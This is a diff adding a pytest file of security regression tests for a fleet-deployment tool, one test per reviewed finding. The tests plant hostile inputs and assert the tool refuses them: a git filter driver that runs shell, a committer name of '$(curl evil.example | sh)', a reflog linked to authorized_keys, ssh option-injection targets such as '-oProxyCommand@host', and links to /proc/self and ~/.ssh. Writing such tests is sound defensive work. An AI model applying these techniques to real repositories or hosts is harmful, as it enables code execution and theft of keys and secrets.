@@ -1,0 +1,194 @@
+"""Attacks on the surface added with commits, migration control, migrate verify and deploy; one test per finding.
+
+- `migrate verify --old REF` ran `git archive` with the repository's own config: a filter driver named
+  by `.gitattributes` and defined in `.git/config` (`filter.x.smudge`) ran as the admin.
+- dendrite's commits wrote through links in the git directory: `.git/logs/HEAD -> ~/x` had a reflog
+  line (with the committer name the repository's config chose) appended outside the repository; a
+  `.git` file (`gitdir: /elsewhere/.git`) put the commit into another repository; a repository's own
+  `commit.gpgSign` made the admin's key sign the attacker's tree.
+- A journal line nesting 100,000 arrays made `migrate status` (and decide, report) an internal error.
+- A plan template with a format spec (`{host:>60000000}`) built a string of that size when
+  `migrate check --dry-run` only printed the commands.
+- A target host `-Fcfg@h` from the inventory passed the address check: ssh reads `-Fcfg@h` as the
+  option -F, a config file whose ProxyCommand runs.
+- migrate verify's comparison of a moved flake source's files followed a directory link in the source
+  (`files -> /proc/self`): `files/environ`, dendrite's environment, was shown in the diff.
+"""
+
+from __future__ import annotations
+
+import os
+import subprocess
+from pathlib import Path
+
+import pytest
+
+from dendrite.deploy.ssh import parse_address
+from dendrite.drv import sourcefiles
+from dendrite.errors import InputError
+from tests.hostile.conftest import (
+    Fleet,
+    Sentinel,
+    assert_refused,
+    dendrite,
+)
+
+GIT_ID = ["-c", "user.name=attacker", "-c", "user.email=a@example.org", "-c", "commit.gpgsign=false"]
+
+
+# the admin's identity (their global git config, in real life)
+IDENT = {"GIT_AUTHOR_NAME": "admin", "GIT_AUTHOR_EMAIL": "admin@example.org"}
+IDENT |= {"GIT_COMMITTER_NAME": "admin", "GIT_COMMITTER_EMAIL": "admin@example.org"}
+
+
+def run(fleet: Fleet, *args: str, stdin: bytes | None = None) -> subprocess.CompletedProcess[bytes]:
+    return dendrite(["--repo", str(fleet.root), *args], fleet.env | IDENT, stdin=stdin)
+
+
+def no_bug(res: subprocess.CompletedProcess[bytes]) -> str:
+    err = res.stderr.decode(errors="replace")
+    assert res.returncode in (0, 1, 2), f"exit {res.returncode}: {err}"
+    assert "Traceback" not in err and "internal error" not in err, err
+    return err
+
+
+def refused_after_the_change(res: subprocess.CompletedProcess[bytes], *words: str) -> None:
+    """A commit refused: exit 2 with one `error:` sentence (after the `wrote ...` note of the change)."""
+    err = res.stderr.decode(errors="replace")
+    assert res.returncode == 2, err
+    errors = [ln for ln in err.splitlines() if ln.startswith("error:")]
+    assert len(errors) == 1 and "Traceback" not in err, err
+    for w in words:
+        assert w in errors[0], err
+
+
+def git(root: Path, *args: str) -> str:
+    res = subprocess.run(["git", "-C", str(root), *GIT_ID, *args], check=True, capture_output=True)
+    return res.stdout.decode()
+
+
+def git_repo(fleet: Fleet) -> None:
+    git(fleet.root, "init", "-q")
+    git(fleet.root, "add", "-A")
+    git(fleet.root, "commit", "-q", "-m", "the attacker's branch")
+
+
+# ----------------------------------------------------------------------------------- migrate verify
+
+
+def test_verify_archive_runs_no_filter_driver_of_the_repository(
+    fleet: Fleet, sentinel: Sentinel, tmp_path: Path
+) -> None:
+    marker = tmp_path / "filter-ran"
+    (fleet.root / ".gitattributes").write_text("flake.nix filter=evil\n")
+    git_repo(fleet)
+    git(fleet.root, "config", "filter.evil.smudge", f"sh -c 'touch {marker}; cat'")
+    git(fleet.root, "config", "filter.evil.required", "true")
+    res = run(fleet, "migrate", "verify", "cinnabar", "--old", "HEAD", "--timeout", "5")
+    no_bug(res)
+    assert not marker.exists(), "git archive ran the repository's filter driver"
+
+
+def test_verify_does_not_show_a_file_behind_a_directory_link_of_the_source(
+    sentinel: Sentinel, tmp_path: Path
+) -> None:
+    """A moved source's `files -> /proc/self` (or `-> ~/.ssh`) is not read: the diff never shows it."""
+    src = tmp_path / "store" / ("a" * 32 + "-source")
+    src.mkdir(parents=True)
+    (src / "proc").symlink_to("/proc/self")
+    (src / "ssh").symlink_to(sentinel.private_key.parent)
+    os.environ["DENDRITE_REVIEW_TOKEN"] = "token-that-must-not-show"
+    try:
+        assert sourcefiles.describe(src / "proc" / "environ", src) is None
+        assert sourcefiles.describe(src / "ssh" / "id_ed25519", src) is None
+    finally:
+        del os.environ["DENDRITE_REVIEW_TOKEN"]
+    (src / "files").mkdir()
+    (src / "files" / "banner").write_text("hello\n")
+    assert sourcefiles.describe(src / "files" / "banner", src) == repr("hello\n")
+
+
+# ------------------------------------------------------------------------------------------ commits
+
+
+def test_commit_does_not_append_to_a_reflog_linked_outside(fleet: Fleet, sentinel: Sentinel) -> None:
+    git_repo(fleet)
+    head_log = fleet.root / ".git" / "logs" / "HEAD"
+    head_log.unlink()
+    head_log.symlink_to(sentinel.authorized_keys)
+    env = {**fleet.env, "GIT_AUTHOR_NAME": "admin", "GIT_AUTHOR_EMAIL": "admin@example.org"}
+    git(fleet.root, "config", "user.name", "$(curl evil.example | sh)")
+    git(fleet.root, "config", "user.email", "a@example.org")
+    res = dendrite(["--repo", str(fleet.root), "secrets", "set", "review-secret"], env, stdin=b"value\n")
+    refused_after_the_change(res, "symbolic link", "logs/HEAD")
+    # the sentinel fixture proves authorized_keys is byte-identical
+
+
+def test_commit_does_not_go_to_a_repository_a_git_file_names(fleet: Fleet, tmp_path: Path) -> None:
+    other = tmp_path / "admins-other-repo"
+    other.mkdir()
+    (other / "README").write_text("mine\n")
+    git(other, "init", "-q")
+    git(other, "add", "-A")
+    git(other, "commit", "-q", "-m", "the admin's own work")
+    before = git(other, "rev-parse", "HEAD")
+    (fleet.root / ".git").write_text(f"gitdir: {other / '.git'}\n")
+    res = run(fleet, "secrets", "set", "review-secret", stdin=b"value\n")
+    refused_after_the_change(res, "outside")
+    assert git(other, "rev-parse", "HEAD") == before
+    assert "sops" not in git(other, "ls-files")
+
+
+def test_commit_is_not_signed_because_the_repository_says_so(fleet: Fleet, tmp_path: Path) -> None:
+    """The repository's own `commit.gpgSign` with a signing program the admin trusts (git's default gpg,
+    here a fake one first on PATH) must not make the admin's key sign the attacker's tree."""
+    git_repo(fleet)
+    marker = tmp_path / "gpg-ran"
+    bindir = tmp_path / "bin"
+    bindir.mkdir()
+    fake = bindir / "gpg"
+    fake.write_text(f"#!/bin/sh\ntouch {marker}\nexit 1\n")
+    fake.chmod(0o755)
+    git(fleet.root, "config", "commit.gpgsign", "true")
+    git(fleet.root, "config", "user.name", "attacker")
+    git(fleet.root, "config", "user.email", "a@example.org")
+    env = {**fleet.env, "PATH": f"{bindir}:{fleet.env['PATH']}"}
+    res = dendrite(["--repo", str(fleet.root), "secrets", "set", "review-secret"], env, stdin=b"value\n")
+    assert res.returncode == 0, res.stderr.decode()
+    assert not marker.exists(), "the repository's commit.gpgSign ran the signing program"
+    assert "sops/secrets/review-secret" in git(fleet.root, "show", "--name-only", "HEAD")
+
+
+# ------------------------------------------------------------------------------------------ migration
+
+
+def test_a_journal_line_nesting_deeply_is_reported_not_a_crash(fleet: Fleet, tmp_path: Path) -> None:
+    with (fleet.root / "migration" / "journal.jsonl").open("a") as f:
+        f.write("[" * 100_000 + "]" * 100_000 + "\n")
+    for args in (["status"], ["report", "--html", str(tmp_path / "r.html")]):
+        err = no_bug(run(fleet, "migrate", *args))
+        assert "journal.jsonl:" in err and "nests deeper than 100 levels" in err, err
+    no_bug(run(fleet, "migrate", "decide", "1"))  # decides on the other lines
+
+
+@pytest.mark.parametrize("template", ["{host:>60000000}", "{target!r}"])
+def test_a_plan_template_with_a_format_spec_is_refused(fleet: Fleet, template: str) -> None:
+    plan = fleet.root / "migration" / "plan.toml"
+    text = plan.read_text()
+    assert '"nixos-rebuild switch --rollback --target-host {target}"' in text
+    plan.write_text(text.replace("--target-host {target}", f"--target-host {template}"))
+    res = run(fleet, "migrate", "rollback", "blackphos", "--dry-run")
+    assert_refused(res, "format spec")
+    assert len(res.stdout) < 10_000
+
+
+# ------------------------------------------------------------------------------------------- deploy
+
+
+@pytest.mark.parametrize("target", ["-Fcfg@host", "-oProxyCommand@host", "-E.log@10.0.0.1:22"])
+def test_a_target_host_whose_user_starts_with_a_dash_is_refused(target: str, tmp_path: Path) -> None:
+    """`ssh ... -Fcfg@host -- cmd` reads ./cfg@host as its config (a ProxyCommand runs: checked with the
+    real ssh while reviewing); the address must be refused before any ssh runs."""
+    with pytest.raises(InputError, match="starts with '-'"):
+        parse_address(target, "the target host of m")
+    assert parse_address("deploy-user@host").user == "deploy-user"
